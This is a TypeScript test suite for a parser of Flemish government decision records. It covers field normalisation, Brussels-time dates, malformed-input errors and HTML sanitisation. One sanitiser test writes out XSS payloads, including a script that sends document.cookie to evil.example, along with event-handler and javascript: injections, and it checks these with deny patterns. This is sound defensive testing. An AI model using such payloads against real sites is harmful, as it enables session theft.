import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { InputError } from '../../errors.js';
import { bundledDecisionLines } from '../../testing/fixture-data.js';
import type { Decision, IngestIssue } from '../../model/documents.js';
import { brusselsDate, normaliseDecision, readDecisions } from './index.js';

const BUNDLED = fileURLToPath(new URL('../../../data/beslissingen-2019-2024.jsonl.gz', import.meta.url));

type RawRecord = { type: string; id: string; attributes: Record<string, unknown> };

const rawLines = bundledDecisionLines();
const rawRecords: RawRecord[] = rawLines.map((line) => JSON.parse(line) as RawRecord);

function rawById(id: string): RawRecord {
  const record = rawRecords.find((candidate) => candidate.id === id);
  assert.ok(record, `bundled record ${id} exists`);
  return structuredClone(record);
}

function firstRaw(predicate: (attributes: Record<string, unknown>) => boolean): RawRecord {
  const record = rawRecords.find((candidate) => predicate(candidate.attributes));
  assert.ok(record, 'the bundled file has a record of this shape');
  return structuredClone(record);
}

async function readAll(path: string): Promise<{ decisions: { decision: Decision; line: number }[]; issues: IngestIssue[] }> {
  const decisions: { decision: Decision; line: number }[] = [];
  const issues: IngestIssue[] = [];
  for await (const read of readDecisions(path)) {
    if (read.kind === 'decision') decisions.push({ decision: read.decision, line: read.line });
    else issues.push(read.issue);
  }
  return { decisions, issues };
}

async function withTempDir(run: (dir: string) => Promise<void>): Promise<void> {
  const dir = await mkdtemp(join(tmpdir(), 'beloftemeter-decisions-'));
  try {
    await run(dir);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

test('a real record with single-string mandatee fields', () => {
  const decision = normaliseDecision(rawById('5D9C56D56B1B8100080001EA'));
  assert.deepEqual(decision, {
    id: '5D9C56D56B1B8100080001EA',
    uri: 'http://themis.vlaanderen.be/id/resource/61ef3ca0-492c-11ec-94bb-99a9d1e168fe',
    title: 'Ontwerpbesluit van de Vlaamse Regering tot bepaling van de bevoegdheden van de leden van de Vlaamse Regering',
    shortTitle: 'Bevoegdheidsbesluit',
    bodyText: 'De Vlaamse Regering keurt het besluit goed dat de bevoegdheden bepaalt van haar leden.',
    bodyHtml: 'De Vlaamse Regering keurt het besluit goed dat <strong>de bevoegdheden</strong> bepaalt van haar leden.',
    meetingDate: '2019-10-02',
    meetingId: '5D9B6DCA6B1B810008000176',
    itemType: 'Nota',
    mandatees: [{ id: '5fed907ee6670526694a070c', name: 'Jan Jambon', title: 'Minister-president van de Vlaamse Regering' }],
    themes: [],
    position: 4,
  });
});

test('list-valued mandatee, theme and position fields are zipped and normalised', () => {
  const raw = firstRaw((a) => Array.isArray(a.mandateeIds) && (a.mandateeIds as unknown[]).length >= 2 && Array.isArray(a.themeId));
  const decision = normaliseDecision(raw);
  const a = raw.attributes as Record<string, string[]>;
  assert.equal(decision.mandatees.length, a.mandateeIds!.length);
  decision.mandatees.forEach((mandatee, i) => {
    assert.equal(mandatee.id, a.mandateeIds![i]);
    assert.equal(mandatee.name, `${a.mandateeFirstNames![i]} ${a.mandateeFamilyNames![i]}`);
    assert.equal(mandatee.title, a.mandateeTitles![i]);
  });
  assert.deepEqual(decision.themes, [...new Set(a.themeId)]);

  const twoSlots = normaliseDecision(rawById('64AE79390592342F299DBA3F'));
  assert.equal(twoSlots.position, 39, 'position [39, 40] keeps the first slot');
});

test('a real record with two proposing ministers', () => {
  const raw = firstRaw((a) => JSON.stringify(a.mandateeFamilyNames) === '["Crevits","Weyts"]');
  assert.deepEqual(
    normaliseDecision(raw).mandatees.map((m) => [m.name, m.title]),
    [
      ['Hilde Crevits', 'Vlaams minister van Economie, Innovatie, Werk, Sociale economie en Landbouw'],
      ['Ben Weyts', 'Vlaams minister van Onderwijs, Sport, Dierenwelzijn en Vlaamse Rand'],
    ],
  );
});

test('null-valued fields become empty values, never a crash', () => {
  const raw = firstRaw((a) => a.mandateeIds === null && a.themeId === null);
  const decision = normaliseDecision(raw);
  assert.deepEqual(decision.mandatees, []);
  assert.deepEqual(decision.themes, []);

  const noBody = normaliseDecision(firstRaw((a) => a.htmlContent === null && a.alternativeTitle === null));
  assert.equal(noBody.bodyText, '');
  assert.equal(noBody.bodyHtml, '');
  assert.equal(noBody.shortTitle, null);

  const odd = normaliseDecision({
    type: 'news-item',
    id: 'ABC',
    attributes: {
      uri: 'http://themis.vlaanderen.be/id/x',
      title: ' Titel ',
      meetingDate: '2020-02-21T09:00:00Z',
      mandateeIds: ['m1', 'm2'],
      mandateeFirstNames: 'Jan', // a string where the others are lists: zipped by position all the same
      mandateeFamilyNames: ['Jambon', null],
      mandateeTitles: null,
      mandateeNames: [null, 'Hilde Crevits'],
      themeId: ['t1', 't1', 7],
      position: 'x',
      htmlContent: 42,
    },
  });
  assert.deepEqual(odd.mandatees, [
    { id: 'm1', name: 'Jan Jambon', title: null },
    { id: 'm2', name: 'Hilde Crevits', title: null },
  ]);
  assert.deepEqual(odd.themes, ['t1']);
  assert.equal(odd.position, null);
  assert.equal(odd.title, 'Titel');
  assert.equal(odd.bodyText, '');
  assert.equal(odd.itemType, null);
  assert.equal(odd.meetingId, null);
});

test('a list-valued htmlContent is joined into separate paragraphs', () => {
  const raw = firstRaw((a) => Array.isArray(a.htmlContent));
  const parts = raw.attributes.htmlContent as string[];
  const decision = normaliseDecision(raw);
  assert.equal(decision.bodyText.split('\n\n').length, parts.length);
  assert.match(decision.bodyText, /oproep 2020/);
  assert.match(decision.bodyText, /oproep 2022/);
  assert.equal(decision.bodyHtml.match(/<p>/g)?.length, parts.length);
  assert.doesNotMatch(decision.bodyHtml, /data-__set-by/);
});

test('blank-line separated editor paragraphs survive in text and html', () => {
  const decision = normaliseDecision(rawById('5E2FFD729B66390008000440'));
  const paragraphs = decision.bodyText.split('\n\n');
  assert.equal(paragraphs.length, 2);
  assert.match(paragraphs[0]!, /^Na advies van de Raad van State beslist/);
  assert.match(paragraphs[1]!, /^Dit complex project heeft als doelstelling/);
  assert.equal(decision.bodyHtml.match(/<p>/g)?.length, 2);
  assert.doesNotMatch(decision.bodyText, /components|&nbsp;|\u00a0/);
});

test('hostile HTML never survives in bodyHtml and script text never reaches bodyText', () => {
  const raw = rawById('5D9C56D56B1B8100080001EA');
  raw.attributes.htmlContent =
    '<p>Beslissing <strong>goedgekeurd</strong>.</p>' +
    '<script>document.location="https://evil.example/?c="+document.cookie</script>' +
    '<img src="x" onerror="alert(\'img\')">' +
    '<a href="javascript:alert(\'link\')">klik hier</a>' +
    '<iframe src="https://evil.example/frame">frame-tekst</iframe>' +
    '<style>p { background: url(javascript:alert(1)) }</style>' +
    '<p onmouseover="alert(\'p\')">Slot.</p>';
  const decision = normaliseDecision(raw);
  for (const forbidden of [/<script/i, /<img/i, /<iframe/i, /<style/i, /onerror/i, /onmouseover/i, /javascript:/i, /alert/, /evil\.example/]) {
    assert.doesNotMatch(decision.bodyHtml, forbidden);
  }
  assert.match(decision.bodyHtml, /<p>Beslissing <strong>goedgekeurd<\/strong>\.<\/p>/);
  assert.doesNotMatch(decision.bodyText, /document\.cookie|alert|background|frame-tekst/);
  assert.equal(decision.bodyText, 'Beslissing goedgekeurd.\n\nklik hier\n\nSlot.');
});

test('meeting dates are calendar dates in Brussels, across DST changes', () => {
  assert.equal(brusselsDate('2020-02-21T09:00:00Z'), '2020-02-21');
  assert.equal(brusselsDate('2020-02-21T23:30:00Z'), '2020-02-22', 'winter: 23:30Z is 00:30 the next day');
  assert.equal(brusselsDate('2020-02-21T22:59:59Z'), '2020-02-21', 'winter: UTC+1');
  // DST starts 2021-03-28 at 01:00Z: before it 22:30Z is 23:30 (UTC+1), after it 00:30 the next day (UTC+2).
  assert.equal(brusselsDate('2021-03-27T22:30:00Z'), '2021-03-27');
  assert.equal(brusselsDate('2021-03-28T22:30:00Z'), '2021-03-29');
  // DST ends 2021-10-31 at 01:00Z.
  assert.equal(brusselsDate('2021-10-30T22:30:00Z'), '2021-10-31');
  assert.equal(brusselsDate('2021-10-31T22:30:00Z'), '2021-10-31');
  assert.equal(brusselsDate('2023-12-31T23:00:00Z'), '2024-01-01', 'year boundary');
  assert.equal(brusselsDate('2020-02-21T23:30:00+01:00'), '2020-02-21', 'explicit offset');
  assert.equal(brusselsDate('2020-02-21'), '2020-02-21', 'a bare date is kept');
  assert.equal(brusselsDate('2020-02-30T09:00:00Z'), null);
  assert.equal(brusselsDate('21/02/2020'), null);

  const raw = rawById('5D9C56D56B1B8100080001EA');
  raw.attributes.meetingDate = '2022-06-30T22:15:00Z';
  assert.equal(normaliseDecision(raw).meetingDate, '2022-07-01');
});

test('records lacking what a decision needs are rejected with a message naming the problem', () => {
  const base = rawById('5D9C56D56B1B8100080001EA');
  const cases: [string, (r: RawRecord) => unknown, RegExp][] = [
    ['not an object', () => [1, 2], /a list, not a news-item/],
    ['wrong type', (r) => ({ ...r, type: 'agenda-item' }), /type is "agenda-item", expected "news-item"/],
    ['no attributes', (r) => ({ type: r.type, id: r.id }), /no attributes/],
    ['no id', (r) => ({ type: r.type, attributes: { ...r.attributes, uuid: null } }), /no id/],
    ['no uri', (r) => ({ ...r, attributes: { ...r.attributes, uri: null } }), /5D9C56D56B1B8100080001EA has no uri/],
    ['bad uri', (r) => ({ ...r, attributes: { ...r.attributes, uri: 'themis' } }), /uri that is not an http\(s\) URL/],
    ['no title', (r) => ({ ...r, attributes: { ...r.attributes, title: '  ' } }), /has no title/],
    ['no meetingDate', (r) => ({ ...r, attributes: { ...r.attributes, meetingDate: undefined } }), /has no meetingDate/],
    ['bad meetingDate', (r) => ({ ...r, attributes: { ...r.attributes, meetingDate: 'gisteren' } }), /meetingDate that is not an ISO date: "gisteren"/],
  ];
  for (const [name, mutate, message] of cases) {
    assert.throws(() => normaliseDecision(mutate(structuredClone(base))), (error: unknown) => {
      assert.ok(error instanceof InputError, `${name}: InputError`);
      assert.match(error.message, message, name);
      return true;
    });
  }
  // The uuid stands in for a missing top-level id.
  assert.equal(normaliseDecision({ ...base, id: undefined }).id, '5D9C56D56B1B8100080001EA');
});

test('reading the whole bundled file yields every decision and no issues', async (t) => {
  const started = performance.now();
  const { decisions, issues } = await readAll(BUNDLED);
  t.diagnostic(`read ${decisions.length} decisions in ${Math.round(performance.now() - started)} ms`);
  assert.equal(decisions.length, 3101);
  assert.deepEqual(issues, []);
  assert.equal(new Set(decisions.map((d) => d.decision.id)).size, 3101);
  assert.deepEqual(decisions.map((d) => d.line), Array.from({ length: 3101 }, (_, i) => i + 1));
  assert.ok(decisions.every((d) => /^\d{4}-\d{2}-\d{2}$/.test(d.decision.meetingDate)));
  assert.ok(decisions.every((d) => !/<script|\son\w+=/i.test(d.decision.bodyHtml)));
  const dates = decisions.map((d) => d.decision.meetingDate).sort();
  assert.equal(dates[0], '2019-10-02');
  assert.equal(dates.at(-1), '2024-01-10');
  assert.equal(decisions.filter((d) => d.decision.bodyText === '').length, 184, 'the 184 records without htmlContent');
});

test('a malformed line in the middle becomes an issue with its line number; reading goes on', async () => {
  await withTempDir(async (dir) => {
    const noUri = JSON.parse(rawLines[3]!) as RawRecord;
    delete noUri.attributes.uri;
    const lines = [rawLines[0], rawLines[1], '{"type": "news-item", "id": ', '', rawLines[2], JSON.stringify(noUri), '   ', rawLines[4]];
    const text = `\uFEFF${lines.join('\r\n')}\r\n`;
    for (const [name, bytes] of [
      ['decisions.jsonl', Buffer.from(text)],
      ['decisions.jsonl.gz', gzipSync(text)],
      ['gzipped-without-extension.jsonl', gzipSync(text)],
    ] as const) {
      const path = join(dir, name);
      await writeFile(path, bytes);
      const { decisions, issues } = await readAll(path);
      assert.deepEqual(decisions.map((d) => d.line), [1, 2, 5, 8], name);
      assert.deepEqual(
        decisions.map((d) => d.decision.id),
        [0, 1, 2, 4].map((i) => (JSON.parse(rawLines[i]!) as RawRecord).id),
      );
      assert.equal(issues.length, 2, name);
      assert.equal(issues[0]!.line, 3);
      assert.equal(issues[0]!.source, path);
      assert.match(issues[0]!.message, /not valid JSON/);
      assert.equal(issues[1]!.line, 6);
      assert.match(issues[1]!.message, new RegExp(`${noUri.id} has no uri`));
    }
  });
});

test('a truncated or corrupt gzip file is an InputError thrown from the reader', async () => {
  await withTempDir(async (dir) => {
    const whole = gzipSync(rawLines.slice(0, 300).join('\n'));
    const truncated = join(dir, 'truncated.jsonl.gz');
    await writeFile(truncated, whole.subarray(0, Math.floor(whole.length / 2)));
    let readBeforeFailure = 0;
    await assert.rejects(
      (async () => {
        for await (const read of readDecisions(truncated)) if (read.kind === 'decision') readBeforeFailure++;
      })(),
      (error: unknown) => {
        assert.ok(error instanceof InputError);
        assert.match(error.message, /truncated\.jsonl\.gz is truncated or not valid gzip: /);
        return true;
      },
    );
    assert.ok(readBeforeFailure > 0 && readBeforeFailure < 300, `decisions were streamed before the failure (${readBeforeFailure})`);

    const notGzip = join(dir, 'plain.jsonl.gz');
    await writeFile(notGzip, rawLines.slice(0, 3).join('\n'));
    await assert.rejects(readAll(notGzip), /plain\.jsonl\.gz is truncated or not valid gzip/);

    await assert.rejects(readAll(join(dir, 'missing.jsonl')), (error: unknown) => error instanceof InputError && /cannot read decisions file/.test(error.message));
  });
});
